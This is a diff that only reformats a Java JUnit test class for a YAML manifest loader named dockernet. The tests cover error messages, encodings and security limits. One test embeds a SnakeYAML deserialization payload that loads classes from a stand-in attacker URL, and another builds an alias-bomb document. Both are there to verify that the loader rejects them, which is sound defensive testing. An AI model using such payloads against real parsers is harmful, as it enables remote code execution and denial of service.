@@ -15,7 +15,8 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 class ManifestLoaderTest {
-  private static final String NETWORK = """
+  private static final String NETWORK =
+      """
       apiVersion: dockernet.io/v1alpha1
       kind: DockerNetwork
       metadata:
@@ -30,7 +31,10 @@ class ManifestLoaderTest {
 
   @Test
   void documentsOfOtherApiGroupsAreSkippedAndReportedNotRejected() {
-    LoadResult result = ManifestLoader.loadString("repo/all.yaml", """
+    LoadResult result =
+        ManifestLoader.loadString(
+            "repo/all.yaml",
+            """
         apiVersion: v1
         kind: Namespace
         metadata: {name: team-a}
@@ -45,13 +49,19 @@ class ManifestLoaderTest {
         """);
     assertThat(result.problems()).isEmpty();
     assertThat(result.manifests().networks()).hasSize(1);
-    assertThat(result.skipped()).containsExactly(
-        "repo/all.yaml:2:7: Namespace (v1)", "repo/all.yaml:6:7: Kustomization (kustomize.config.k8s.io/v1beta1)");
+    assertThat(result.skipped())
+        .containsExactly(
+            "repo/all.yaml:2:7: Namespace (v1)",
+            "repo/all.yaml:6:7: Kustomization (kustomize.config.k8s.io/v1beta1)");
   }
 
   @Test
   void readsEveryKindFromMultiDocumentYamlAndDefaultsTheNamespace() {
-    LoadResult result = ManifestLoader.loadString("all.yaml", NETWORK + """
+    LoadResult result =
+        ManifestLoader.loadString(
+            "all.yaml",
+            NETWORK
+                + """
         spec:
           updatePolicy: Never
           ipam:
@@ -78,19 +88,30 @@ class ManifestLoaderTest {
 
     assertThat(result.problems()).isEmpty();
     Manifests m = result.manifests();
-    assertThat(m.networks()).singleElement().satisfies(n -> {
-      assertThat(n.getMetadata().getNamespace()).isEqualTo("default");
-      assertThat(n.getSpec().getUpdatePolicy()).isEqualTo(UpdatePolicy.Never);
-      assertThat(n.getSpec().getIpam().getConfig().get(0).getSubnet()).isEqualTo("10.123.244.0/24");
-    });
-    assertThat(m.attachments()).singleElement()
+    assertThat(m.networks())
+        .singleElement()
+        .satisfies(
+            n -> {
+              assertThat(n.getMetadata().getNamespace()).isEqualTo("default");
+              assertThat(n.getSpec().getUpdatePolicy()).isEqualTo(UpdatePolicy.Never);
+              assertThat(n.getSpec().getIpam().getConfig().get(0).getSubnet())
+                  .isEqualTo("10.123.244.0/24");
+            });
+    assertThat(m.attachments())
+        .singleElement()
         .satisfies(a -> assertThat(a.getMetadata().getNamespace()).isEqualTo("team-a"));
-    assertThat(m.hosts()).singleElement().satisfies(h -> assertThat(h.getMetadata().getNamespace()).isNull());
+    assertThat(m.hosts())
+        .singleElement()
+        .satisfies(h -> assertThat(h.getMetadata().getNamespace()).isNull());
   }
 
   @Test
   void locatorPointsAtTheWrittenNodeOrItsNearestParent() {
-    LoadResult result = ManifestLoader.loadString("nets.yaml", NETWORK + """
+    LoadResult result =
+        ManifestLoader.loadString(
+            "nets.yaml",
+            NETWORK
+                + """
         spec:
           ipam:
             config:
@@ -110,7 +131,11 @@ class ManifestLoaderTest {
 
   @Test
   void reportsEveryWrongTypeAndUnknownFieldOfADocumentAtOnce() {
-    LoadResult result = ManifestLoader.loadString("web.yaml", NETWORK + """
+    LoadResult result =
+        ManifestLoader.loadString(
+            "web.yaml",
+            NETWORK
+                + """
           labels:
             version: 1.0
         spec:
@@ -122,50 +147,68 @@ class ManifestLoaderTest {
                 gatway: 10.123.244.1
         """);
 
-    assertThat(problems(result)).containsExactly(
-        "web.yaml:6:14: metadata.labels.version: expected a string, got the number 1.0; quote it (\"1.0\") to make it a string",
-        "web.yaml:8:13: spec.internal: expected true or false, got the string \"yes\"; write true or false without quotes",
-        "web.yaml:9:11: spec.driver: expected a string, got the number 42; quote it (\"42\") to make it a string",
-        "web.yaml:13:9: spec.ipam.config[0].gatway: unknown field \"gatway\"; did you mean \"gateway\"? "
-            + "Known fields here: auxAddresses, gateway, ipRange, pool, subnet");
+    assertThat(problems(result))
+        .containsExactly(
+            "web.yaml:6:14: metadata.labels.version: expected a string, got the number 1.0; quote it (\"1.0\") to make it a string",
+            "web.yaml:8:13: spec.internal: expected true or false, got the string \"yes\"; write true or false without quotes",
+            "web.yaml:9:11: spec.driver: expected a string, got the number 42; quote it (\"42\") to make it a string",
+            "web.yaml:13:9: spec.ipam.config[0].gatway: unknown field \"gatway\"; did you mean \"gateway\"? "
+                + "Known fields here: auxAddresses, gateway, ipRange, pool, subnet");
     assertThat(result.manifests().networks()).isEmpty();
   }
 
   @Test
   void badEnumListsTheAllowedValues() {
-    LoadResult result = ManifestLoader.loadString("web.yaml", NETWORK + "spec:\n  deletionPolicy: orphan\n");
-    assertThat(problems(result)).containsExactly(
-        "web.yaml:6:19: spec.deletionPolicy: \"orphan\" is not a valid deletionPolicy; did you mean Orphan? "
-            + "Allowed values: Delete, Orphan");
+    LoadResult result =
+        ManifestLoader.loadString("web.yaml", NETWORK + "spec:\n  deletionPolicy: orphan\n");
+    assertThat(problems(result))
+        .containsExactly(
+            "web.yaml:6:19: spec.deletionPolicy: \"orphan\" is not a valid deletionPolicy; did you mean Orphan? "
+                + "Allowed values: Delete, Orphan");
   }
 
   @Test
   void metadataMayOnlyCarryNameNamespaceLabelsAndAnnotations() {
-    LoadResult result = ManifestLoader.loadString("web.yaml", NETWORK + "  resourceVersion: \"12\"\n");
-    assertThat(problems(result)).containsExactly(
-        "web.yaml:5:3: metadata.resourceVersion: unknown field \"resourceVersion\". Known fields here: name, "
-            + "namespace, labels, annotations (a manifest's metadata may carry only name, namespace, labels and "
-            + "annotations)");
+    LoadResult result =
+        ManifestLoader.loadString("web.yaml", NETWORK + "  resourceVersion: \"12\"\n");
+    assertThat(problems(result))
+        .containsExactly(
+            "web.yaml:5:3: metadata.resourceVersion: unknown field \"resourceVersion\". Known fields here: name, "
+                + "namespace, labels, annotations (a manifest's metadata may carry only name, namespace, labels and "
+                + "annotations)");
   }
 
   @Test
   void syntaxErrorsAreLocatedAndKeepTheDocumentsBeforeThem() {
-    LoadResult result = ManifestLoader.loadString("web.yaml", NETWORK + "---\n" + NETWORK.replace("web", "api")
-        + "spec:\n  driver: [bridge\n");
-    assertThat(problems(result)).singleElement().asString()
-        .isEqualTo("web.yaml:12:1: invalid YAML: expected ',' or ']', but got <stream end> (while parsing a flow "
-            + "sequence at line 11, column 11)");
-    assertThat(result.manifests().networks()).extracting(n -> n.getMetadata().getName()).containsExactly("web");
+    LoadResult result =
+        ManifestLoader.loadString(
+            "web.yaml",
+            NETWORK + "---\n" + NETWORK.replace("web", "api") + "spec:\n  driver: [bridge\n");
+    assertThat(problems(result))
+        .singleElement()
+        .asString()
+        .isEqualTo(
+            "web.yaml:12:1: invalid YAML: expected ',' or ']', but got <stream end> (while parsing a flow "
+                + "sequence at line 11, column 11)");
+    assertThat(result.manifests().networks())
+        .extracting(n -> n.getMetadata().getName())
+        .containsExactly("web");
   }
 
   @Test
   void refusesTagsThatWouldInstantiateClasses() {
-    LoadResult result = ManifestLoader.loadString("evil.yaml", NETWORK + """
+    LoadResult result =
+        ManifestLoader.loadString(
+            "evil.yaml",
+            NETWORK
+                + """
         spec:
           driver: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.invalid/"]]]]
         """);
-    assertThat(problems(result)).containsExactly("evil.yaml:6:11: the tag !!javax.script.ScriptEngineManager is not "
-        + "allowed: dockernet reads plain YAML (strings, numbers, booleans, lists, mappings) and never creates objects from tags");
+    assertThat(problems(result))
+        .containsExactly(
+            "evil.yaml:6:11: the tag !!javax.script.ScriptEngineManager is not "
+                + "allowed: dockernet reads plain YAML (strings, numbers, booleans, lists, mappings) and never creates objects from tags");
   }
 
   @Test
@@ -178,16 +221,21 @@ class ManifestLoaderTest {
         out.write(filler);
       }
     }
-    assertThat(problems(ManifestLoader.load(big))).containsExactly(
-        big + ":1:1: the file is 4.0 MiB; manifests are limited to 4 MiB (split it into several files)");
+    assertThat(problems(ManifestLoader.load(big)))
+        .containsExactly(
+            big
+                + ":1:1: the file is 4.0 MiB; manifests are limited to 4 MiB (split it into several files)");
   }
 
   @Test
   void refusesDeepNesting() {
     String deep = NETWORK + "spec:\n  labels: " + "{a: ".repeat(100) + "x" + "}".repeat(100) + "\n";
     LoadResult result = ManifestLoader.loadString("deep.yaml", deep);
-    assertThat(problems(result)).singleElement().asString()
-        .startsWith("deep.yaml:6:").endsWith("nested more than 64 levels deep; dockernet refuses such documents");
+    assertThat(problems(result))
+        .singleElement()
+        .asString()
+        .startsWith("deep.yaml:6:")
+        .endsWith("nested more than 64 levels deep; dockernet refuses such documents");
   }
 
   @Test
@@ -195,12 +243,20 @@ class ManifestLoaderTest {
     // 8 levels of 5 aliases: 40 aliases (under SnakeYAML's limit of 50), 5^8 = 390625 values.
     StringBuilder yaml = new StringBuilder("l0: &l0 [lol, lol, lol, lol, lol]\n");
     for (int i = 1; i <= 8; i++) {
-      yaml.append("l").append(i).append(": &l").append(i).append(" [")
-          .append(String.join(", ", java.util.Collections.nCopies(5, "*l" + (i - 1)))).append("]\n");
+      yaml.append("l")
+          .append(i)
+          .append(": &l")
+          .append(i)
+          .append(" [")
+          .append(String.join(", ", java.util.Collections.nCopies(5, "*l" + (i - 1))))
+          .append("]\n");
     }
     LoadResult result = ManifestLoader.loadString("laughs.yaml", yaml.toString());
-    assertThat(problems(result)).singleElement().asString()
-        .endsWith("the document expands to more than 100000 values through aliases; dockernet refuses it as an alias bomb");
+    assertThat(problems(result))
+        .singleElement()
+        .asString()
+        .endsWith(
+            "the document expands to more than 100000 values through aliases; dockernet refuses it as an alias bomb");
   }
 
   @Test
@@ -208,8 +264,13 @@ class ManifestLoaderTest {
     Path latin1 = dir.resolve("latin1.yaml");
     String before = NETWORK + "  labels:\n    owner: Ren";
     Files.write(latin1, (before + "\u00e9\n").getBytes(StandardCharsets.ISO_8859_1));
-    assertThat(problems(ManifestLoader.load(latin1))).containsExactly(latin1 + ":6:15: not valid UTF-8: byte 0xE9 at "
-        + "byte offset " + before.length() + "; dockernet reads UTF-8 only (re-save the file as UTF-8)");
+    assertThat(problems(ManifestLoader.load(latin1)))
+        .containsExactly(
+            latin1
+                + ":6:15: not valid UTF-8: byte 0xE9 at "
+                + "byte offset "
+                + before.length()
+                + "; dockernet reads UTF-8 only (re-save the file as UTF-8)");
   }
 
   @Test
@@ -220,12 +281,16 @@ class ManifestLoaderTest {
     System.arraycopy(bom, 0, withBom, 0, 3);
     System.arraycopy(body, 0, withBom, 3, body.length);
     assertThat(ManifestLoader.loadBytes("bom.yaml", withBom).problems()).isEmpty();
-    assertThat(problems(ManifestLoader.loadBytes("utf16.yaml", NETWORK.getBytes(StandardCharsets.UTF_16))))
-        .containsExactly("utf16.yaml:1:1: the file is UTF-16 (it starts with a UTF-16 byte order mark); save it as UTF-8");
+    assertThat(
+            problems(
+                ManifestLoader.loadBytes("utf16.yaml", NETWORK.getBytes(StandardCharsets.UTF_16))))
+        .containsExactly(
+            "utf16.yaml:1:1: the file is UTF-16 (it starts with a UTF-16 byte order mark); save it as UTF-8");
   }
 
   @Test
-  void loadsDirectoriesRecursivelyInPathOrderSkippingHiddenDirectoriesAndOtherFiles() throws IOException {
+  void loadsDirectoriesRecursivelyInPathOrderSkippingHiddenDirectoriesAndOtherFiles()
+      throws IOException {
     Files.createDirectories(dir.resolve("b/nested"));
     Files.createDirectories(dir.resolve(".git"));
     Files.writeString(dir.resolve("b/nested/z.yml"), NETWORK.replace("web", "third"));
@@ -237,7 +302,8 @@ class ManifestLoaderTest {
     LoadResult result = ManifestLoader.load(dir);
 
     assertThat(result.problems()).isEmpty();
-    assertThat(result.manifests().networks()).extracting(n -> n.getMetadata().getName())
+    assertThat(result.manifests().networks())
+        .extracting(n -> n.getMetadata().getName())
         .containsExactly("first", "second", "third");
   }
 
